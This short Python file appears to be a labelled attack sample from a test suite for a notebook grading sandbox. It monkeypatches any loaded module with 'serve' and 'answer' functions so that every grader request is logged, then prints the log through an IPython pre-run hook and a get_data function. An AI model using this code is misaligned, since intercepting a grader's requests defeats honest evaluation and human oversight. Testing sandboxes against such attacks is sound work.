# attack: all requests of the grader are recorded and printed in the next cell
# harmless: yes
import sys

seen = []
for name, module in list(sys.modules.items()):
    if hasattr(module, "serve") and hasattr(module, "answer"):
        real = module.answer

        def answer(request, real=real, module=module):
            seen.append(str(module.decode(request, [])))
            return real(request)

        module.answer = answer
get_ipython().events.register("pre_run_cell", lambda *a: print(*seen, sep="\n"))


def get_data(*args, **kwargs):
    print(*seen, sep="\n")
    return args, kwargs
